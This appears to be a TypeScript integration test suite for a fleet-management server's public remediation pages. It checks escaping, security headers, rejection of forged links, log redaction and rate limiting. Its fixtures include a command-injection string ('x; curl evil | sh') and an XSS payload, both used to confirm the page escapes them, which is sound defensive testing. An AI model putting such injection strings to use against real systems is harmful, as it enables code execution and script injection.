import assert from 'node:assert/strict'
import { get as httpGet } from 'node:http'
import { after, before, describe, test } from 'node:test'
import type { CompliancePolicy } from '@muster/core/api/compliance.ts'
import { judgeCompliance } from '@muster/server/jobs/judge-compliance.ts'
import { remediationLinks } from '@muster/server/operations/remediation/remediation-links.ts'
import { chromium } from 'playwright-core'
import { expectNoAxeViolations, expectNoLackOfContrast } from '../e2e/support/axe.ts'
import { findChromium, inBrowser } from '../e2e/support/chromium.ts'
import { takeScreenshot } from '../e2e/support/take-screenshot.ts'
import {
  enrolFake,
  type FakeAgent,
  type FakeSocket,
  fakeInventory,
  helloOf,
  openSocket,
} from '../fleet/support/fake-agent.ts'
import { waitUntil } from '../support/embedded-server.ts'
import { addTestAccount, addTestDevices } from '../support/fleet.ts'
import { createCall, type NativeCall } from '../support/native-client.ts'
import { startWholeServer, type WholeServer } from '../support/whole-server.ts'

const updates = {
  source: 'apt',
  missing_total: 3,
  security_total: 1,
  missing: [
    { id: 'openssl', installed: '3.0.15-1', available: '3.0.17-1', security: true },
    { id: 'tzdata', installed: '2025a-0', available: '2025b-0' },
  ],
}
const software = {
  found: [
    { name: 'telnetd', version: '0.17' },
    { name: 'x; curl evil | sh' },
    { name: '<img src=x onerror=alert(1)>' },
  ],
}
const day = 86_400

let server: WholeServer
let call: NativeCall
let agent: FakeAgent
let socket: FakeSocket

before(async () => {
  server = await startWholeServer({ MUSTER_RATE_LIMIT_STORE: 'memory' })
  call = createCall(server.url, server.operatorToken)
  ;[agent, socket] = await enrol('HQ-DT-101')
  await enrol('somebody-elses-device')
  say(socket, {
    os_updates: updates,
    unwanted_software: software,
    disk_encryption: { volumes: [{ mount: '/', encrypted: false }] },
  })
  await waitUntil('its checks are kept', async () => (await shown()).checks.length === 3)
})

after(async () => {
  socket?.cut()
  await server?.close()
})

async function enrol(
  hostname: string,
  over: { hwid?: string; key?: FakeAgent['key'] } = {},
): Promise<[FakeAgent, FakeSocket]> {
  const { token } = (await call('POST', '/enrolment-tokens', { uses: 1 })).body
  const inventory = fakeInventory({ hostname })
  const enrolled = await enrolFake(server.url, token, { ...over, inventory })
  const opened = await openSocket(server.url)
  const { nonce } = await opened.next('challenge')
  opened.send(helloOf(enrolled, nonce, { inventory }))
  await opened.next('welcome')
  return [enrolled, opened]
}

function say(to: FakeSocket, failing: Record<string, object>): void {
  to.send({
    type: 'checks',
    checks: Object.entries(failing).map(([check, facts]) => ({
      check,
      result: 'fail',
      facts,
      taken_at: Math.floor(Date.now() / 1000),
    })),
    looked_for: [],
  })
}

async function setPolicy(checks: CompliancePolicy['checks']): Promise<void> {
  assert.equal((await call('PUT', '/compliance-policy', { checks })).status, 200)
  await judgeCompliance(server.services)
}

const shown = async (deviceId = agent.identity.device_id) => (await call('GET', `/devices/${deviceId}`)).body
const linkOf = async (deviceId?: string) => (await shown(deviceId)).remediation_url as string

async function open(link: string): Promise<{ status: number; headers: Headers; html: string; text: string }> {
  const answer = await fetch(link)
  const html = await answer.text()
  const text = html
    .replace(/<style>.*<\/style>/s, '')
    .replace(/<[^>]+>/g, ' ')
    .replace(/\s+/g, ' ')
  return { status: answer.status, headers: answer.headers, html, text }
}

test('whoever has the link reads, without signing in, what is wrong with that device, until when, and how it is mended', async () => {
  await setPolicy([
    { check: 'os_updates', severity: 'critical' },
    { check: 'unwanted_software', severity: 'warning', names: ['telnetd'] },
    { check: 'disk_encryption', severity: 'warning', grace_seconds: 7 * day },
  ])
  const { status, headers, html, text } = await open(await linkOf())
  assert.equal(status, 200)
  assert.match(text, /Not compliant 3 things to mend on HQ-DT-101/)
  assert.match(text, /2 of them count against this device now, 1 of these as critical/)
  assert.match(text, /System updates Critical 3 updates are missing; one closes a security hole/)
  assert.match(text, /openssl 3\.0\.15-1 → 3\.0\.17-1 \(security\) tzdata 2025a-0 → 2025b-0 and 1 more/)
  assert.match(text, /sudo apt update sudo apt full-upgrade/)
  assert.match(text, /Disk encryption Warning .* Mend it by .* UTC \(in 7 days\): from then on it counts/)
  assert.match(text, /checked again within 75 minutes/)
  assert.doesNotMatch(html, /somebody-elses|<script|javascript:|https?:\/\//i)
  assert.match(html, /<meta name="robots" content="noindex, nofollow">/)
  assert.match(
    headers.get('content-security-policy')!,
    /^default-src 'none'; style-src 'sha256-[^']+'; form-action 'none'/,
  )
  assert.doesNotMatch(headers.get('content-security-policy')!, /unsafe|script-src/)
  assert.equal(headers.get('cache-control'), 'no-store')
  assert.equal(headers.get('referrer-policy'), 'no-referrer')
  assert.equal(headers.get('x-robots-tag'), 'noindex, nofollow')
})

test('what agents say is text: it is no HTML, and no part of a command that a shell would read otherwise', async () => {
  const { html, text } = await open(await linkOf())
  assert.ok(html.includes('<code>sudo apt remove telnetd</code>'), text)
  assert.ok(html.includes('<li>x; curl evil | sh</li>'))
  assert.ok(html.includes('&lt;img src=x onerror=alert(1)&gt;'))
  assert.doesNotMatch(html, /<img/)
})

test('an exempt device is told so, and its issues stay listed; where there is nothing to do, that is said', async () => {
  const ids = [agent.identity.device_id]
  await call('POST', '/actions', { type: 'exempt', params: { hours: 8 }, devices: { ids } })
  const exempt = await open(await linkOf())
  assert.match(exempt.text, /Exempted 3 things to mend .* exempted from all of them, until .* UTC \(in 8 hours\)/)
  assert.match(exempt.text, /It would count now; the device is exempted from it/)
  await call('POST', '/actions', { type: 'unexempt', devices: { ids } })
  assert.match((await open(await linkOf())).text, /Not compliant/)

  await setPolicy([{ check: 'disk_encryption', severity: 'critical', grace_seconds: 7 * day }])
  assert.match(
    (await open(await linkOf())).text,
    /Compliant One thing to mend .* There is still time: .* \(in 7 days\)/,
  )
  await setPolicy([{ check: 'firewall', severity: 'critical' }])
  assert.match((await open(await linkOf())).text, /Compliant Nothing to do on HQ-DT-101/)

  await call('POST', '/devices/import', { devices: [{ device_id: 'printer', hostname: 'printer', status: 'unknown' }] })
  const printer = await open(await linkOf('printer'))
  assert.match(printer.text, /Nothing is known yet of printer .* not checked again until one is set up/)
})

test('a link that is cut, forged, mistyped or another account’s leads to one page that tells nothing', async () => {
  const link = await linkOf()
  const at = link.lastIndexOf('/') + 1
  const [base, token] = [link.slice(0, at), link.slice(at)]
  const { pool } = server.services
  const other = await addTestAccount(pool, 'other')
  await addTestDevices(pool, other, [{ deviceId: 'theirs', macs: [], hostname: 'theirs' } as never])
  const bytes = Buffer.from(token, 'base64url')
  bytes.writeUInt32BE(other)
  const wrong = [
    ...Array.from(
      token,
      (letter, place) => token.slice(0, place) + (letter === 'A' ? 'B' : 'A') + token.slice(place + 1),
    ),
    token.slice(0, -1),
    `${token}A`,
    'x',
    Buffer.alloc(32, 255).toString('base64url'),
    bytes.toString('base64url'),
    // Of a device with this key and generation in the other account, which there is not.
    (await remediationLinks(server.services, other))({ deviceKey: '1', generation: 1 }).slice(at),
  ]
  const pages = await Promise.all(wrong.map((one) => open(base + one)))
  assert.deepEqual([...new Set(pages.map(({ status }) => status))], [404])
  assert.equal(new Set(pages.map(({ html }) => html)).size, 1)
  assert.match(pages[0]!.text, /There is nothing behind this link/)
  assert.equal(pages[0]!.headers.get('referrer-policy'), 'no-referrer')
  assert.equal((await open(link)).status, 200)
})

test('a link ends when its device enrols anew, and when it is deleted', async () => {
  const [first, connection] = await enrol('short-lived')
  const { device_id } = first.identity
  const old = await linkOf(device_id)
  assert.equal((await open(old)).status, 200)
  connection.cut()
  const [, again] = await enrol('short-lived', { hwid: first.hwid, key: first.key })
  const link = await linkOf(device_id)
  assert.notEqual(link, old)
  assert.deepEqual([(await open(old)).status, (await open(link)).status], [404, 200])
  await call('POST', '/actions', { type: 'delete', devices: { ids: [device_id] } })
  const [gone, nothing] = [await open(link), await open(old)]
  assert.deepEqual([gone.status, gone.html], [404, nothing.html])
  again.cut()
})

test('the wire API gives the same link, and the log of requests tells none', async () => {
  await setPolicy([{ check: 'os_updates', severity: 'warning' }])
  const link = await linkOf()
  const { get } = await openWireReader()
  const [listed] = (await get('/o/api/v2.2/devices?order=asc&limit=50')).filter(
    ({ hostname }: { hostname: string }) => hostname === 'HQ-DT-101',
  )
  assert.equal(listed.remediation_link, link)
  assert.deepEqual(await get(`/o/api/v2.2/devices/${agent.hwid}/remediation?opt=1`), { remediation_link: link })
  assert.deepEqual(await get(`/o/api/v3/devices/${agent.identity.device_id}/remediation`), {
    result: 1,
    remediation_link: link,
  })
  await open(link)
  const token = link.slice(link.lastIndexOf('/') + 1)
  // The router reads letters in any spelling, and a whole address for a path.
  const { status } = await open(link.replace('/remediation/', '/%72emediation/'))
  assert.equal(status, 200)
  assert.equal(await openWholeAddress(link), 200)
  assert.ok(server.logged.some((line) => line.includes('/remediation/***')))
  assert.ok(!server.logged.some((line) => line.includes(token)))
})

function openWholeAddress(link: string): Promise<number | undefined> {
  const { hostname, port } = new URL(link)
  return new Promise((resolve, reject) => {
    httpGet({ hostname, port, path: link, agent: false }, (answer) => resolve(answer.resume().statusCode)).on(
      'error',
      reject,
    )
  })
}

async function openWireReader() {
  const { client_id, client_secret } = (await call('POST', '/applications', { name: 'reader', scopes: ['read'] })).body
  const body = new URLSearchParams({ grant_type: 'client_credentials', client_id, client_secret })
  const { access_token } = (await (await fetch(`${server.url}/o/oauth/token`, { method: 'POST', body })).json()) as {
    access_token: string
  }
  const headers = { authorization: `Bearer ${access_token}` }
  return { get: async (path: string) => JSON.parse(await (await fetch(server.url + path, { headers })).text()) }
}

describe('in a browser', inBrowser, () => {
  test('it asks for nothing else, no script either, and is whole in both themes, at a desk and on a phone', async () => {
    await setPolicy([
      { check: 'os_updates', severity: 'critical' },
      { check: 'disk_encryption', severity: 'warning', grace_seconds: 7 * day },
    ])
    const browser = await chromium.launch({
      executablePath: findChromium()!,
      args: ['--no-sandbox', '--disable-dev-shm-usage'],
    })
    try {
      const context = await browser.newContext({ viewport: { width: 1000, height: 1100 } })
      const page = await context.newPage()
      page.setDefaultTimeout(10_000)
      const asked: string[] = []
      page.on('request', (request) => void asked.push(request.url()))
      await page.goto(await linkOf())
      await page.getByRole('heading', { level: 1, name: '2 things to mend on HQ-DT-101' }).waitFor()
      await expectNoAxeViolations(page)
      await takeScreenshot(page, 'remediation-light')
      await page.emulateMedia({ colorScheme: 'dark' })
      await expectNoLackOfContrast(page, 'in the dark')
      await takeScreenshot(page, 'remediation-dark')
      await page.setViewportSize({ width: 360, height: 740 })
      const narrow = 'document.documentElement.scrollWidth <= document.documentElement.clientWidth'
      assert.equal(await page.evaluate<boolean>(narrow), true, 'nothing lies beside the window of a phone')
      assert.deepEqual(asked, [await linkOf()], 'it asks for nothing else')
      await page.goto(`${server.url}/remediation/nothing`)
      await expectNoAxeViolations(page, 'the page of a wrong link')
    } finally {
      await browser.close()
    }
  })
})

test('nobody tries links without end: a network has a thousand a minute', async () => {
  const tries = Array.from({ length: 1100 }, (_, index) => index)
  const seen: number[] = []
  await Promise.all(
    Array.from({ length: 20 }, async () => {
      while (tries.pop() !== undefined) seen.push((await fetch(`${server.url}/remediation/nothing`)).status)
    }),
  )
  assert.ok(seen.includes(429), 'some are refused')
  assert.equal(
    (await fetch(`${server.url}/api/v1/server`, { headers: { authorization: `Bearer ${server.operatorToken}` } }))
      .status < 429,
    true,
  )
})
